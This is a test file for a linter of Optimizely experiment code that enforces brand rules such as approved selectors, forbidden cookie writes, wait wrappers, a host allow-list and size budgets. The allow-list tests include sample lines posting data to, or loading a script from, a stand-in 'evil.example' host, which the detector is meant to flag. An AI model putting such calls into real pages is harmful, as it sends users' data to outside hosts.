import assert from 'node:assert/strict';
import { applyFixes, check } from '../index.js';
import { testBrand } from './__fixtures__/brand.js';
import { covered, ids, only } from './helpers.js';

const brand = testBrand();
const wrapped = (body: string) => `const utils = window.optimizely.get('utils');\nutils.waitForElement('.pdp__price').then(function (el) {\n${body}\n});`;

describe('brand/unapproved-selector', () => {
  it('accepts approved selectors, state pseudo-classes and names the variation creates', () => {
    const text = wrapped([
      "  if (document.querySelector('.exp-badge')) return;",
      "  el.insertAdjacentHTML('afterend', '<span class=\"nw-badge\" data-nw-test=\"1\">New</span>');",
      "  document.querySelector('[data-testid=\"site-header\"] .nw-badge');",
      "  document.querySelector('[data-nw-test]');",
      "  el.matches('.pdp__price:hover');",
    ].join('\n'));
    assert.deepEqual(only('brand/unapproved-selector', text, { brand }), []);
  });

  it('decides a complex selector by runs of its compounds, the same on every check, with each file\'s own names', () => {
    const approvedRun = "document.querySelector('[data-testid=\"site-header\"]  .mega-menu__item--sale>.mega-menu__link:hover');";
    const mixed = "document.querySelector('[data-testid=\"site-header\"] .nw-flag');";
    const creates = "el.insertAdjacentHTML('afterend', '<i class=\"nw-flag\"></i>');";
    // The same brand object keeps one approval set; its memo must not carry one file's names to another.
    for (let round = 0; round < 3; round++) {
      assert.deepEqual(only('brand/unapproved-selector', wrapped(`  ${approvedRun}`), { brand }), [], `round ${round}`);
      assert.deepEqual(only('brand/unapproved-selector', wrapped(`  ${creates}\n  ${mixed}`), { brand }), [], `round ${round}`);
      const [f] = only('brand/unapproved-selector', wrapped(`  ${mixed}`), { brand });
      assert.match(f?.message ?? '', /Selector "\[data-testid="site-header"\] \.nw-flag" is not approved/, `round ${round}`);
    }
  });

  it('reports an unapproved selector at the selector with fixes to the nearest approved ones', () => {
    const text = wrapped("  document.querySelector('.pdp-price');");
    const [f] = only('brand/unapproved-selector', text, { brand });
    assert.ok(f);
    assert.equal(covered(text, f), '.pdp-price');
    assert.match(f.message, /not approved for Northwind Outfitters/);
    assert.equal(f.fixes?.[0]?.edits[0]?.newText, '.pdp__price');
    assert.deepEqual(f.fixes?.[0]?.edits[0]?.range, f.range);
  });

  it('escapes quotes of a suggestion for the string it goes into', () => {
    const text = wrapped('  document.querySelector("[data-testid=add-to-cart]");');
    const [f] = only('brand/unapproved-selector', text, { brand });
    const texts = f?.fixes?.map((x) => x.edits[0]!.newText) ?? [];
    assert.ok(texts.includes('[data-testid=\\"add-to-cart-button\\"]'), texts.join(' | '));
  });

  it('respects the page type and says where the selector is approved', () => {
    const text = "utils.waitForElement('[data-testid=\"checkout-button\"]');";
    const [f] = only('brand/unapproved-selector', text, { brand, pageType: 'product-detail' });
    assert.match(f!.message, /approved only on: cart/);
    assert.deepEqual(only('brand/unapproved-selector', text, { brand, pageType: 'cart' }), []);
  });

  it('takes the page type from a brandsafe-page comment when the caller gives none', () => {
    const body = "utils.waitForElement('[data-testid=\"checkout-button\"]');";
    const [f] = only('brand/unapproved-selector', `// brandsafe-page: product-detail\n${body}`, { brand });
    assert.match(f!.message, /on product-detail pages\. It is approved only on: cart/);
    assert.deepEqual(only('brand/unapproved-selector', `/* @brandsafe-page cart */\n${body}`, { brand }), []);
    // The caller's page type wins; a look-alike inside a string is no declaration.
    assert.equal(only('brand/unapproved-selector', `// brandsafe-page: cart\n${body}`, { brand, pageType: 'product-detail' }).length, 1);
    assert.deepEqual(only('brand/unapproved-selector', `var s = '// brandsafe-page: product-detail';\n${body}`, { brand }), []);
    const css = '/* brandsafe-page: product-detail */\n[data-testid="checkout-button"] { color: red }';
    assert.equal(check({ text: css, filename: 'v.css' }, { brand }).findings.filter((x) => x.ruleId === 'brand/unapproved-selector').length, 1);
  });

  it('reports a declared page type the brand does not define, at the id, and ignores it', () => {
    const withPages = testBrand({ pageTypes: ['cart', 'product-detail'].map((id) => ({ iri: `urn:test:${id}`, id, label: id })) });
    const text = "// brandsafe-page: prodcut-detail\nutils.waitForElement('[data-testid=\"checkout-button\"]');";
    const found = only('brand/unapproved-selector', text, { brand: withPages });
    assert.equal(found.length, 1);
    assert.equal(covered(text, found[0]!), 'prodcut-detail');
    assert.match(found[0]!.message, /not defined by .*page types: cart, product-detail/);
  });

  it('checks each selector of a list and CSS rule selectors', () => {
    const css = '.pdp__title, .pdp__subtitle { font-weight: 700 }\n.exp-banner { color: red }';
    const found = check({ text: css, filename: 'v.css' }, { brand }).findings.filter((f) => f.ruleId === 'brand/unapproved-selector');
    assert.deepEqual(found.map((f) => covered(css, f)), ['.pdp__subtitle']);
  });

  it('reports deprecated approved selectors', () => {
    assert.deepEqual(ids(wrapped("  document.querySelector('#promo-banner');"), { brand }).filter((i) => i.startsWith('brand/deprecated')), ['brand/deprecated-selector@3:27']);
  });
});

describe('brand code rules', () => {
  it('reports forbidden calls and assignments with the graph severity, message and docs', () => {
    const text = "document.cookie = 'seen=1';\nwindow.localStorage.setItem('a', 'b');";
    const found = only('brand/forbidden-call', text, { brand });
    assert.deepEqual(found.map((f) => covered(text, f)), ['document.cookie', 'window.localStorage.setItem']);
    assert.match(found[0]!.message, /^Do not write cookies/);
    assert.equal(found[0]!.docsUrl, 'https://brand.example.test/rules/no-cookie-writes');
    assert.equal(found[0]!.brandRule, 'no-cookie-writes');
  });

  it('requires DOM queries inside the wrapper (callback, then, or after await)', () => {
    const ok = [
      "utils.waitForElement('.pdp__price').then((el) => el.querySelector('.pdp__title'));",
      "async function run() { const el = await utils.waitForElement('.pdp__price'); el.closest('body').querySelector('.pdp__title'); }",
    ].join('\n');
    assert.deepEqual(only('brand/required-wrapper', ok, { brand }), []);
    const [f] = only('brand/required-wrapper', "document.querySelector('.pdp__title');", { brand });
    assert.equal(f?.severity, 'warning');
  });

  it('accepts utils.observeSelector where the brand requires utils.waitForElement', () => {
    const text = "var utils = window.optimizely.get('utils');\nutils.observeSelector('.pdp__price', function (price) {\n  if (price.querySelector('.exp-badge')) return;\n  price.querySelector('.pdp__title');\n});";
    assert.deepEqual(only('brand/required-wrapper', text, { brand }), []);
    const [f] = only('brand/required-wrapper', "utils.observeSelector('.pdp__price', go);\ndocument.querySelector('.pdp__title');", { brand });
    assert.equal(f?.range.start.line, 1);
  });

  it('fixes an unwrapped query by moving its statement into utils.waitForElement, which re-checks clean', () => {
    const cases: Array<[string, RegExp]> = [
      ["var utils = window.optimizely.get('utils');\n(function () {\n  document.querySelector('.pdp__title').classList.add('exp-x');\n})();", /^ {2}utils\.waitForElement\('\.pdp__title'\)\.then\(\(\) => \{\n {4}document\.querySelector/m],
      ["var price = document.getElementById('pdp-price');\nprice.textContent = 'x';", /^window\.optimizely\.get\('utils'\)\.waitForElement\('#pdp-price'\)\.then\(\(\) => \{\n {2}var price = [^\n]*\nprice\.textContent = 'x';\n\}\);$/],
      ["if ($('.pdp__title').length) go();", /waitForElement\('\.pdp__title'\)/],
    ];
    for (const [text, shape] of cases) {
      const [f] = only('brand/required-wrapper', text, { brand });
      const fix = f?.fixes?.[0];
      assert.ok(fix, text);
      assert.match(fix.title, /^Wrap in utils\.waitForElement/);
      assert.equal(fix.preferred, undefined);
      const fixed = applyFixes(text, fix.edits).text;
      assert.match(fixed, shape);
      const again = check({ text: fixed, filename: 'v.js' }, { brand }).findings;
      assert.deepEqual(again.filter((x) => x.ruleId === 'brand/required-wrapper' || x.ruleId === 'recommended/parse-error'), [], fixed);
    }
  });

  it('offers no wrap fix where moving the statement would change what the code does (return, await, a jump out, a scoped query, hoisting)', () => {
    for (const text of [
      "function f() { return document.querySelector('.pdp__title'); }",
      "async function f() { document.querySelector('.pdp__title').x = await g(); }",
      "for (;;) { if (document.querySelector('.pdp__title')) break; }",
      "if (document.querySelector('.pdp__title')) { for (;;) { break; } }",
      "el.querySelector('.pdp__title').focus();",
      "document.querySelector(sel).focus();\nfunction keep() {}\nvar x = document.querySelector('.pdp__title');\nfunction hoisted() {}",
    ]) {
      const found = only('brand/required-wrapper', text, { brand });
      assert.ok(found.length > 0, text);
      const last = found[found.length - 1]!;
      if (text.startsWith('document.querySelector(sel)')) {
        assert.ok(found[0]!.fixes, 'a dynamic selector is waited for as written');
        assert.equal(last.fixes, undefined, 'a declaration cannot take a later function declaration with it');
      } else if (text.startsWith('if')) {
        assert.ok(last.fixes, 'a break inside the moved statement stays inside its own loop');
      } else assert.equal(last.fixes, undefined, text);
    }
  });

  it('does not require the wrapper for queries of elements the variation creates', () => {
    const text = "if (document.querySelector('.exp-note') || document.getElementById('exp-box')) return;\nel.insertAdjacentHTML('afterend', '<p class=\"nw-note\">x</p>');\ndocument.querySelector('.nw-note');";
    assert.deepEqual(only('brand/required-wrapper', `(function () {\n${text}\n})();`, { brand }), []);
  });

  it('reports requests to hosts outside the allow-list, at the URL', () => {
    const text = [
      "fetch('https://api.northwind.example/stock');",
      "fetch('/api/relative');",
      "navigator.sendBeacon('https://collect.tracker.example/b', data);",
      "new Image().src = '//pixel.ads.example/p.gif';",
      "xhr.open('POST', `https://evil.example/${id}`);",
      "s.src = 'https://static.northwind-cdn.example/x.js';",
    ].join('\n');
    const found = only('brand/network-allowlist', text, { brand });
    assert.deepEqual(found.map((f) => f.range.start.line), [2, 3, 4]);
    assert.match(found[0]!.message, /collect\.tracker\.example/);
  });

  it('reports URLs fetched by CSS url()/@import and by src attributes in inserted markup', () => {
    const css = "@import url('https://fonts.elsewhere.example/f.css');\n.exp-hero { background: url(https://img.tracker.example/bg.png) }\n.exp-logo { background: url('/img/logo.svg') }";
    const cssFound = check({ text: css, filename: 'v.css' }, { brand }).findings.filter((f) => f.ruleId === 'brand/network-allowlist');
    assert.deepEqual(cssFound.map((f) => covered(css, f)), ['https://fonts.elsewhere.example/f.css', 'https://img.tracker.example/bg.png']);
    const js = "el.insertAdjacentHTML('beforeend', '<img src=\"https://px.ads.example/1.gif\"><img src=\"https://static.northwind-cdn.example/a.png\">');\nel.innerHTML = `<script src=\"//evil.example/x.js\"></script><img src=\"/${id}.png\">`;";
    const jsFound = only('brand/network-allowlist', js, { brand });
    assert.deepEqual(jsFound.map((f) => covered(js, f)), ['https://px.ads.example/1.gif', '//evil.example/x.js']);
  });

  it('reports a file over the size budget where the budget runs out', () => {
    const text = `var a = '${'x'.repeat(5000)}';`;
    const [f] = only('brand/size-budget', text, { brand });
    assert.equal(f?.range.start.character, 4096);
    assert.match(f!.message, /5011 bytes, budget 4096/);
  });
});

describe('brand/size-budget with several budgets', () => {
  it('reports each budget the file exceeds where that budget runs out, counting UTF-8 bytes', () => {
    const base = testBrand();
    const size = (id: string, maxBytes: number) => ({ iri: `urn:test:${id}`, id, kind: 'size-budget' as const, severity: 'warning' as const, message: id, maxBytes });
    const twoBudgets = testBrand({ rules: [...base.rules.filter((r) => r.kind !== 'size-budget'), size('hard', 30), size('soft', 10), size('roomy', 1000)] });
    const text = "var a = 'é€😀 and more text here';";
    const found = only('brand/size-budget', text, { brand: twoBudgets });
    assert.deepEqual(found.map((f) => [f.brandRule, f.range.start.character]), [['soft', 9], ['hard', 25]]);
    assert.match(found[0]!.message, /\(39 bytes, budget 10\)/);
  });
});

describe('brand packs and skipped rules', () => {
  it('lists every brand rule as skipped, with the reason, when no brand is given', () => {
    const { skipped } = check({ text: 'x();', filename: 'v.js' });
    assert.deepEqual(skipped.map((s) => s.ruleId), ['brand/unapproved-selector', 'brand/deprecated-selector', 'brand/forbidden-call', 'brand/required-wrapper', 'brand/network-allowlist', 'brand/size-budget']);
    assert.match(skipped[0]!.reason, /No brand given/);
  });

  it('turns off packs the brand does not adopt and reports them as skipped', () => {
    const onlyRecommended = testBrand({ rulePacks: ['recommended'] });
    const text = "window.optimizely.push({ type: 'nope' });";
    assert.deepEqual(only('optimizely-web/valid-push', text, { brand: onlyRecommended }), []);
    assert.equal(only('optimizely-web/valid-push', text, { brand: onlyRecommended, rules: { 'optimizely-web/valid-push': 'warning' } }).length, 1);
    const { skipped } = check({ text, filename: 'v.js' }, { brand: onlyRecommended });
    assert.ok(skipped.some((s) => s.ruleId === 'optimizely-web/valid-push' && /does not adopt the optimizely-web/.test(s.reason)));
  });
});
